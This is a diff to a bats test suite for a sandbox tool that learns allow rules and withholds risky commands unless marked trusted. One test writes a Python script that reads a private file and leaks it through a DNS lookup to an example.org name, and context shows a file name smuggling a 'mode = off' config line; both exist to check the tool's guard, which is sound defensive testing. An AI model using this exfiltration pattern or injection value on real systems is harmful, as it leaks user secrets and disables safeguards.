@@ -213,14 +213,14 @@ s.serve_forever()' "$1" "$BATS_TEST_TMPDIR/port" 3>&- &
 
 @test "a tool that needs a port of the host" {
         serve "$W"
-        proven "curl -sSf http://127.0.0.1:$port/x"
+        proven --trusted "curl -sSf http://127.0.0.1:$port/x"
         lines "sandbox.network.host_ports=$port"
 }
 
 @test "npm with a registry at a port of the host" {
         command -v npm >/dev/null || skip 'no npm'
         serve "$W"
-        proven "npm view x --registry http://127.0.0.1:$port --fetch-retries 0 name || test \$? = 0"
+        proven --trusted "npm view x --registry http://127.0.0.1:$port --fetch-retries 0 name || test \$? = 0"
         lines "sandbox.network.host_ports=$port"
 }
 
@@ -238,7 +238,7 @@ z.writestr("tiny-1.dist-info/RECORD", "tiny.py,,\ntiny-1.dist-info/METADATA,,\nt
 END
         serve "$D"
         echo '<a href="/tiny-1-py3-none-any.whl">tiny-1-py3-none-any.whl</a>' >"$D/simple/tiny/index.html"
-        proven "python3 -m pip download -q --no-deps --retries 0 --disable-pip-version-check http://127.0.0.1:$port/tiny-1-py3-none-any.whl"
+        proven --trusted "python3 -m pip download -q --no-deps --retries 0 --disable-pip-version-check http://127.0.0.1:$port/tiny-1-py3-none-any.whl"
         lines "sandbox.network.host_ports=$port"
 }
 
@@ -252,7 +252,7 @@ class H(http.server.BaseHTTPRequestHandler):
 socketserver.UnixStreamServer(sys.argv[1], H).serve_forever()' "$D/service.sock" 3>&- &
         server=$!
         until_exists "$D/service.sock"
-        proven "curl -sSf --unix-socket $D/service.sock http://x/"
+        proven --trusted "curl -sSf --unix-socket $D/service.sock http://x/"
         lines "sandbox.unix_sockets.paths=$D/service.sock"
 }
 
@@ -397,15 +397,27 @@ os.listdir(os.path.expanduser(\"~\") + \"/evil\\n[guard]\\nmode = \\\"off\\\"\")
         jq -e '.lines == []' "$J"
 }
 
+@test "a service of the host is not used, unless the command is trusted" {
+        serve "$W"
+        run bailey learn "curl -sSf http://127.0.0.1:$port/"
+        [ "$status" = 1 ]
+        [[ $output == *'a service of this host'*'use --trusted'* ]]
+        learn "curl -sSf http://127.0.0.1:$port/" || true
+        lines "sandbox.network.host_ports=$port" # told, and not tried
+        jq -e '.runs == 1' "$J"
+        mkdir ~/data
+        echo PRIVATE >~/data/in
+        learn --trusted "cat ~/data/in && curl -sSf http://127.0.0.1:$port/"
+        lines "sandbox.fs_read_allow=$HOME/data/in" "sandbox.network.host_ports=$port"
+}
+
 @test "files of the user and a connection are not tried together, unless the command is trusted" {
         mkdir ~/data
         echo PRIVATE >~/data/in
-        serve "$W"
-        run bailey learn "cat ~/data/in && curl -sSf http://127.0.0.1:$port/"
+        echo 'import os, socket; socket.getaddrinfo(open(os.path.expanduser("~/data/in")).read().strip() + ".example.org", 80)' >send.py
+        run bailey learn 'python3 send.py'
         [ "$status" = 1 ]
-        [[ $output == *'use --trusted'* ]]
-        learn --trusted "cat ~/data/in && curl -sSf http://127.0.0.1:$port/"
-        lines "sandbox.fs_read_allow=$HOME/data/in" "sandbox.network.host_ports=$port"
+        [[ $output == *'files of yours'*'use --trusted'* ]]
 }
 
 @test "a million distinct paths, and a path that changes while it is read" {
